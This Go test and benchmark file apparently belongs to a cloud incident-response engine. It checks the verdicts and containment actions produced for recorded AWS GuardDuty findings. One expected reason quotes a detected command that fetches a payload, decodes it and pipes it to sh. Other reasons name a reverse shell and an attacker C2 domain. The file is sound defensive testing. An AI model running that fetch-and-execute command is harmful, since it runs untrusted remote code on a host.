package policies_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io/fs"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/cordonhq/cordon/engine"
	"github.com/cordonhq/cordon/engine/config"
	"github.com/cordonhq/cordon/engine/plan"
	"github.com/cordonhq/cordon/engine/policy"
	"github.com/cordonhq/cordon/policies"
	"github.com/cordonhq/cordon/schema"
)

// loadStarter loads the embedded starter configuration as cordon demo
// does, with no variables from the environment.
func loadStarter(tb testing.TB) *engine.Engine {
	tb.Helper()
	e, diags := engine.Load(context.Background(), engine.Options{
		Dir:    ".",
		FS:     policies.Starter(),
		Getenv: func(string) (string, bool) { return "", false },
	})
	if diags.HasErrors() {
		tb.Fatalf("loading the starter configuration: %s", diags.Error())
	}
	return e
}

// planRecorded plans one recorded finding with one recorded facts file
// (none when facts is ""), offline.
func planRecorded(tb testing.TB, e *engine.Engine, finding, facts string) *plan.Plan {
	tb.Helper()
	data, err := fs.ReadFile(policies.Starter(), "testdata/findings/"+finding)
	if err != nil {
		tb.Fatal(err)
	}
	ff, err := engine.SplitFindings(finding, data)
	if err != nil {
		tb.Fatal(err)
	}
	var opts engine.PlanOptions
	if facts != "" {
		data, err := fs.ReadFile(policies.Starter(), "testdata/facts/"+facts)
		if err != nil {
			tb.Fatal(err)
		}
		if opts.Facts, err = e.ParseFacts(facts, data); err != nil {
			tb.Fatal(err)
		}
	}
	res, diags := e.Plan(context.Background(), []*engine.FindingsFile{ff}, opts)
	if diags.HasErrors() {
		tb.Fatalf("planning %s: %s", finding, diags.Error())
	}
	return res.Plan
}

// TestRecordedScenarios plans every recorded finding of testdata with the
// starter configuration and checks what testdata/README.md promises: the
// rule, the verdict and its confidence, and the actions in apply order.
func TestRecordedScenarios(t *testing.T) {
	e := loadStarter(t)
	tests := []struct {
		finding, facts string
		rule, verdict  string
		confidence     float64
		actions        []string // action names, in apply order
		// waiting are the actions withheld until the memory is secured: a
		// stop waits for a memory image the facts confirm.
		waiting []string
		reason  string // a reason the verdict must give
	}{
		{
			finding: "ec2_cryptocurrency_bitcointool_dns.json", facts: "ec2_cryptominer.json",
			rule: "ec2_compromise", verdict: "malicious", confidence: 0.99,
			actions: []string{"protect", "tag", "isolate", "snapshot", "stop", "notify"},
			reason:  "triage: cryptocurrency miner running: xmrig (pid 24817, user apache, /tmp/.ICE-unix/.x/xmrig)",
		},
		{
			finding: "ec2_backdoor_cnc_dns.json", facts: "ec2_backdoor_triage_failed.json",
			rule: "ec2_compromise", verdict: "malicious", confidence: 0.9,
			actions: []string{"protect", "tag", "deregister", "detach", "isolate", "snapshot", "notify"},
			waiting: []string{"stop"},
			reason:  "GuardDuty: domain cdn-sync.attacker.example is on threat list ProofPoint (Cobalt Strike)",
		},
		{
			finding: "ec2_ssh_bruteforce_target.json", facts: "ec2_ssh_bruteforce_failed.json",
			rule: "ec2_compromise", verdict: "benign", confidence: 0.8,
			reason: "triage: no successful login and no session from 198.51.100.23",
		},
		{
			finding: "ec2_ssh_bruteforce_target.json", facts: "ec2_ssh_bruteforce_succeeded.json",
			rule: "ec2_compromise", verdict: "malicious", confidence: 0.95,
			actions: []string{"protect", "tag", "isolate", "snapshot", "stop", "notify"},
			reason:  "triage: successful login as root from 198.51.100.23, the finding's remote address, at 2025-03-14T06:12:43Z",
		},
		{
			finding: "ec2_ssh_bruteforce_outbound_scanner.json", facts: "ec2_authorized_scanner.json",
			rule: "ec2_compromise", verdict: "benign", confidence: 0.9,
			reason: `the instance is tagged cordon:authorized-scanner = "true": it is an authorized scanner`,
		},
		{
			finding: "ec2_recon_portprobe_unprotected_port.json",
			rule:    "ec2_compromise", verdict: "inconclusive", confidence: 0.5,
			actions: []string{"notify"},
			reason:  "GuardDuty: address 192.0.2.77, which reached the instance from outside, is on threat list ProofPoint (Scanner)",
		},
		{
			finding: "ec2_malicious_file.json",
			rule:    "ec2_compromise", verdict: "malicious", confidence: 0.8,
			actions: []string{"protect", "tag", "isolate", "snapshot", "notify"},
			reason:  "GuardDuty Malware Protection found Linux.Trojan.Kinsing in /etc/kinsing, /tmp/kdevtmpfsi on the instance's volumes",
		},
		{
			finding: "runtime_ecs_reverse_shell.json",
			rule:    "runtime_threat", verdict: "malicious", confidence: 0.8,
			actions: []string{"protect", "tag", "detach", "isolate", "snapshot", "notify"},
			reason:  "GuardDuty Runtime Monitoring: a process handed a shell to a network connection (a reverse shell): bash (pid 61834, user app, /usr/bin/bash), talking to address 203.0.113.140",
		},
		{
			finding: "runtime_ecs_reverse_shell_sample.json",
			rule:    "runtime_threat", verdict: "malicious", confidence: 0.8,
			actions: []string{"notify"},
			reason:  "GuardDuty marked this finding as a generated sample",
		},
		{
			finding: "runtime_fargate_suspicious_command.json",
			rule:    "runtime_threat", verdict: "suspicious", confidence: 0.6,
			actions: []string{"notify"},
			reason:  "GuardDuty Runtime Monitoring recorded the command line: sh -c 'curl -s http://198.51.100.14/k | base64 -d | sh'",
		},
		{
			finding: "eks_exec_in_kube_system_pod.json",
			rule:    "kubernetes_threat", verdict: "suspicious", confidence: 0.6,
			actions: []string{"notify"},
			reason:  "GuardDuty: IAM role platform-operators (Kubernetes user arn:aws:sts::123456789012:assumed-role/platform-operators/mallory) ran a command inside pod kube-system/aws-node-7mq2x, in the namespace of the cluster's own components",
		},
		{
			finding: "eks_malicious_ip_caller.json",
			rule:    "kubernetes_threat", verdict: "malicious", confidence: 0.9,
			actions: []string{"deny_all", "notify"},
			reason:  "GuardDuty: IAM role platform-operators (Kubernetes user arn:aws:sts::123456789012:assumed-role/platform-operators/mallory) sent LIST /api/v1/secrets?limit=500 (HTTP 200)",
		},
		{
			finding: "rds_successful_brute_force.json",
			rule:    "rds_threat", verdict: "malicious", confidence: 0.9,
			actions: []string{"notify"},
			reason:  "GuardDuty: database user app_admin logged in to orders-db-1 (aurora-postgresql) from 198.51.100.91 after a run of failed attempts: a successful brute force",
		},
		{
			finding: "rds_tor_failed_login.json",
			rule:    "rds_threat", verdict: "suspicious", confidence: 0.6,
			actions: []string{"notify"},
			reason:  "GuardDuty: failed logins to orders-db-1 (aurora-postgresql) as database user postgres from 192.0.2.199, a Tor exit node: whoever it is hides where they are",
		},
		{
			finding: "lambda_cnc_activity.json",
			rule:    "lambda_threat", verdict: "malicious", confidence: 0.9,
			actions: []string{"notify"},
			reason:  "GuardDuty: the function contacted a known command-and-control server (address 203.0.113.45:443)",
		},
		{
			finding: "lambda_tor_client.json",
			rule:    "lambda_threat", verdict: "suspicious", confidence: 0.6,
			actions: []string{"notify"},
			reason:  "GuardDuty: the function talks to the Tor network (address 192.0.2.66:9001): Lambda function invoice-renderer is making connections to a Tor Guard or Authority node",
		},
		{
			finding: "s3_exfiltration_malicious_ip_caller.json",
			rule:    "s3_exposure", verdict: "malicious", confidence: 0.9,
			actions: []string{"disable_key", "deny_all", "notify"},
			reason:  "GuardDuty: reporting-svc (key AKIAXQ4G7NF2REPORTSV) called GetObject on bucket acme-finance-exports from 198.51.100.23, which is on threat list ProofPoint (Exfil)",
		},
		{
			finding: "s3_object_malicious_file.json",
			rule:    "s3_malware", verdict: "malicious", confidence: 0.9,
			actions: []string{"notify"},
			reason:  "the object's SHA-256 is 275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f: search for it in other buckets and on hosts that downloaded it",
		},
		{
			finding: "attack_sequence_iam_compromised_credentials.json",
			rule:    "attack_sequence", verdict: "malicious", confidence: 0.9,
			actions: []string{"disable_key", "notify"},
			reason:  "indicator High-risk APIs: cloudtrail:StopLogging, s3:GetObject, s3:ListBuckets",
		},
		{
			finding: "attack_sequence_ec2_compromised_instance_group.json",
			rule:    "attack_sequence", verdict: "malicious", confidence: 0.9,
			actions: []string{"protect", "protect", "isolate", "isolate", "snapshot", "snapshot", "notify"},
			reason:  "the sequence names instance i-0a1b2c3d4e5f67890, instance i-0b2c3d4e5f6a78901, aws_network_interface eni-07a6b5c4d3e2f1a09",
		},
		{
			finding: "custom_detection_organization_leave_attempt.json",
			rule:    "unhandled_high_severity", verdict: "inconclusive", confidence: 0.5,
			actions: []string{"notify"},
			reason:  "GuardDuty rated DefenseImpairment:Organizations/ModifyCloudResourceHierarchy high (8 of 10)",
		},
		{
			finding: "securityhub_forged_guardduty_backdoor_cnc_dns.json",
			rule:    "unhandled_high_severity", verdict: "inconclusive", confidence: 0.5,
			actions: []string{"notify"},
			reason:  "the product calls itself GuardDuty",
		},
		{
			finding: "iam_instance_credential_exfiltration_outside_aws.json", facts: "iam_exfiltration_trail.json",
			rule: "iam_credential_compromise", verdict: "malicious", confidence: 0.95,
			actions: []string{"deny_all", "notify"},
			reason:  "CloudTrail: 2 denied call(s) with the key from 203.0.113.77 (CreateUser, ListUsers): someone is probing its permissions",
		},
		{
			finding: "iam_discovery_anomalous_behavior.json", facts: "iam_anomalous_recon_only.json",
			rule: "iam_credential_compromise", verdict: "suspicious", confidence: 0.7,
			actions: []string{"notify"},
			reason:  "CloudTrail: the key was used from 198.51.100.61, outside the networks it was used from before the finding (192.0.2.0/24)",
		},
		{
			finding: "iam_discovery_anomalous_behavior.json", facts: "iam_anomalous_persistence.json",
			rule: "iam_credential_compromise", verdict: "malicious", confidence: 0.9,
			actions: []string{"disable_key", "deny_all", "notify"},
			reason:  "CloudTrail: the key called AttachUserPolicy, CreateAccessKey, CreateUser from 198.51.100.61 (persistence, privilege escalation or log tampering)",
		},
		{
			finding: "s3_policy_bucket_block_public_access_disabled.json", facts: "s3_public_access_trail.json",
			rule: "s3_exposure", verdict: "suspicious", confidence: 0.6,
			actions: []string{"notify"},
			reason:  "CloudTrail: PutBucketPublicAccessBlock by alice from 192.0.2.15 at 2025-03-14T13:05:51Z",
		},
		{
			finding: "guardduty_boto3_GetFindings_Backdoor_EC2_CnCActivity.B-DNS.json",
			rule:    "ec2_compromise", verdict: "malicious", confidence: 0.9,
			actions: []string{"protect", "tag", "isolate", "snapshot", "notify"},
			waiting: []string{"stop"},
			reason:  "GuardDuty: domain GeneratedFindingDomainName is on threat list GeneratedFindingThreatListName (GeneratedFindingThreatName)",
		},
		{
			finding: "guardduty_Recon_IAMUser_MaliciousIPCaller.Custom.json",
			rule:    "iam_credential_compromise", verdict: "malicious", confidence: 0.9,
			// A sample finding plans nothing that changes anything.
			actions: []string{"notify"},
			reason:  "GuardDuty marked this finding as a generated sample",
		},
		{
			finding: "guardduty_PenTest_S3_ParrotLinux.json",
			rule:    "s3_exposure", verdict: "suspicious", confidence: 0.6,
			actions: []string{"notify"},
		},
	}
	for _, tt := range tests {
		name := strings.TrimSuffix(tt.finding, ".json")
		if tt.facts != "" {
			name += "+" + strings.TrimSuffix(tt.facts, ".json")
		}
		t.Run(name, func(t *testing.T) {
			p := planRecorded(t, e, tt.finding, tt.facts)
			if tt.rule == "" {
				if len(p.Incidents) != 0 || len(p.Unmatched) != 1 {
					t.Fatalf("want the finding unmatched, got %d incidents, %d unmatched", len(p.Incidents), len(p.Unmatched))
				}
				return
			}
			if len(p.Incidents) != 1 {
				t.Fatalf("want 1 incident, got %d (unmatched: %v)", len(p.Incidents), p.Unmatched)
			}
			inc := p.Incidents[0]
			if len(inc.Errors) > 0 {
				t.Fatalf("investigation failed: %+v", inc.Errors)
			}
			if len(inc.Verdicts) != 1 || inc.Verdicts[0].Rule != tt.rule {
				t.Fatalf("want one verdict of rule %s, got %+v", tt.rule, inc.Verdicts)
			}
			v := inc.Verdicts[0]
			if v.Verdict != tt.verdict || v.Confidence == nil || *v.Confidence != tt.confidence {
				got := "none"
				if v.Confidence != nil {
					got = fmt.Sprint(*v.Confidence)
				}
				t.Errorf("verdict %s (confidence %s), want %s (%v); reasons:\n  %s", v.Verdict, got, tt.verdict, tt.confidence, strings.Join(v.Reasons, "\n  "))
			}
			if tt.reason != "" && !slices.Contains(v.Reasons, tt.reason) {
				t.Errorf("reasons lack %q:\n  %s", tt.reason, strings.Join(v.Reasons, "\n  "))
			}
			if v.Summary == "" || v.RootCause == "" {
				t.Errorf("verdict without summary or root cause: %+v", v)
			}
			var got []string
			for _, a := range inc.Actions {
				got = append(got, a.Action)
				if len(a.Reasons) == 0 || a.Reasons[0] == "" {
					t.Errorf("%s has no reason", a.Address)
				}
			}
			if !slices.Equal(got, tt.actions) {
				t.Errorf("actions %q, want %q", got, tt.actions)
			}
			var waiting []string
			for _, w := range inc.Withheld {
				if strings.Contains(w.Reason, "collector memory (aws_ssm_memory) has not") {
					waiting = append(waiting, w.Action)
				}
			}
			if !slices.Equal(waiting, tt.waiting) {
				t.Errorf("withheld until the memory is secured: %q, want %q", waiting, tt.waiting)
			}
		})
	}
}

// BenchmarkRecordedScenarios measures planning one recorded finding with
// its recorded facts through the whole pipeline (normalize, match, both
// policies, plan), on one worker.
func BenchmarkRecordedScenarios(b *testing.B) {
	e := loadStarter(b)
	for _, bc := range []struct{ name, finding, facts string }{
		{"ec2_miner", "ec2_cryptocurrency_bitcointool_dns.json", "ec2_cryptominer.json"},
		{"ec2_backdoor_no_triage", "ec2_backdoor_cnc_dns.json", "ec2_backdoor_triage_failed.json"},
		{"ec2_bruteforce_benign", "ec2_ssh_bruteforce_target.json", "ec2_ssh_bruteforce_failed.json"},
		{"iam_exfiltration", "iam_instance_credential_exfiltration_outside_aws.json", "iam_exfiltration_trail.json"},
		{"s3_policy", "s3_policy_bucket_block_public_access_disabled.json", "s3_public_access_trail.json"},
	} {
		b.Run(bc.name, func(b *testing.B) {
			data, err := fs.ReadFile(policies.Starter(), "testdata/findings/"+bc.finding)
			if err != nil {
				b.Fatal(err)
			}
			ff, err := engine.SplitFindings(bc.finding, data)
			if err != nil {
				b.Fatal(err)
			}
			factsData, err := fs.ReadFile(policies.Starter(), "testdata/facts/"+bc.facts)
			if err != nil {
				b.Fatal(err)
			}
			facts, err := e.ParseFacts(bc.facts, factsData)
			if err != nil {
				b.Fatal(err)
			}
			opts := engine.PlanOptions{Facts: facts, Workers: 1}
			files := []*engine.FindingsFile{ff}
			ctx := context.Background()
			b.ReportAllocs()
			cpu := startCPU()
			for b.Loop() {
				if _, diags := e.Plan(ctx, files, opts); diags.HasErrors() {
					b.Fatal(diags.Error())
				}
			}
			cpu.report(b)
		})
	}
}

// BenchmarkStarterPolicies measures the starter policies alone: one
// prepared evaluation of a rule's verdict package, and of its response
// package, over the input the engine builds for a recorded finding and
// its recorded facts. A case without a facts file gets every collector of
// the rule empty, as a plan without -facts or collectors does: the case of
// the throughput benchmark (engine's BenchmarkPlanNDJSON).
func BenchmarkStarterPolicies(b *testing.B) {
	e := loadStarter(b)
	ctx := context.Background()
	for _, bc := range []struct{ name, rule, finding, facts string }{
		{"ec2_miner", "ec2_compromise", "ec2_cryptocurrency_bitcointool_dns.json", "ec2_cryptominer.json"},
		{"ec2_miner_no_facts", "ec2_compromise", "ec2_cryptocurrency_bitcointool_dns.json", ""},
		{"ec2_backdoor_no_triage", "ec2_compromise", "ec2_backdoor_cnc_dns.json", "ec2_backdoor_triage_failed.json"},
		{"ec2_bruteforce_benign", "ec2_compromise", "ec2_ssh_bruteforce_target.json", "ec2_ssh_bruteforce_failed.json"},
		{"iam_exfiltration", "iam_credential_compromise", "iam_instance_credential_exfiltration_outside_aws.json", "iam_exfiltration_trail.json"},
		{"s3_policy", "s3_exposure", "s3_policy_bucket_block_public_access_disabled.json", "s3_public_access_trail.json"},
		{"s3_key_contained", "s3_exposure", "s3_exfiltration_malicious_ip_caller.json", ""},
		{"runtime_ecs_host", "runtime_threat", "runtime_ecs_reverse_shell.json", ""},
		{"runtime_fargate", "runtime_threat", "runtime_fargate_suspicious_command.json", ""},
		{"kubernetes_malicious_ip", "kubernetes_threat", "eks_malicious_ip_caller.json", ""},
		{"rds_brute_force", "rds_threat", "rds_successful_brute_force.json", ""},
		{"lambda_cnc", "lambda_threat", "lambda_cnc_activity.json", ""},
		{"s3_malware", "s3_malware", "s3_object_malicious_file.json", ""},
		{"attack_sequence_iam", "attack_sequence", "attack_sequence_iam_compromised_credentials.json", ""},
		{"unhandled", "unhandled_high_severity", "custom_detection_organization_leave_attempt.json", ""},
	} {
		var rule *config.Rule
		for _, r := range e.Config().Rules {
			if r.Name == bc.rule {
				rule = r
			}
		}
		data, err := fs.ReadFile(policies.Starter(), "testdata/findings/"+bc.finding)
		if err != nil {
			b.Fatal(err)
		}
		findings, err := schema.Parse(bc.finding, data)
		if err != nil || len(findings) != 1 {
			b.Fatalf("%s: %v", bc.finding, err)
		}
		f := findings[0]
		facts := map[string]any{}
		if bc.facts == "" {
			for _, c := range rule.Collect {
				facts[c] = map[string]any{}
			}
		} else if err := json.Unmarshal(mustReadFS(b, "testdata/facts/"+bc.facts), &facts); err != nil {
			b.Fatal(err)
		}
		input := e.Policies().BuildInput(&policy.Input{
			Finding: f, Facts: policy.ToValue(facts),
			Scope: rule.Scopes[0], Rule: rule.Name, Actions: rule.Actions,
		})
		v, err := e.Policies().EvalVerdict(ctx, rule.Verdict, input)
		if err != nil {
			b.Fatal(err)
		}
		responseInput := policy.WithVerdict(input, v)
		b.Run(bc.name+"/verdict", func(b *testing.B) {
			b.ReportAllocs()
			cpu := startCPU()
			for b.Loop() {
				if _, err := e.Policies().EvalVerdict(ctx, rule.Verdict, input); err != nil {
					b.Fatal(err)
				}
			}
			cpu.report(b)
		})
		b.Run(bc.name+"/response", func(b *testing.B) {
			b.ReportAllocs()
			cpu := startCPU()
			for b.Loop() {
				if _, err := e.Policies().EvalResponse(ctx, rule.Response, responseInput); err != nil {
					b.Fatal(err)
				}
			}
			cpu.report(b)
		})
	}
}

func mustReadFS(tb testing.TB, name string) []byte {
	tb.Helper()
	data, err := fs.ReadFile(policies.Starter(), name)
	if err != nil {
		tb.Fatal(err)
	}
	return data
}

// cpuMeter measures a benchmark loop's process CPU time.
type cpuMeter struct {
	start time.Duration
	ok    bool
}

func startCPU() cpuMeter {
	t, ok := processCPU()
	return cpuMeter{start: t, ok: ok}
}

// report adds cpu-ns/op to the benchmark's results, when the platform can
// tell.
func (m cpuMeter) report(b *testing.B) {
	if end, ok := processCPU(); ok && m.ok && b.N > 0 {
		b.ReportMetric(float64(end-m.start)/float64(b.N), "cpu-ns/op")
	}
}
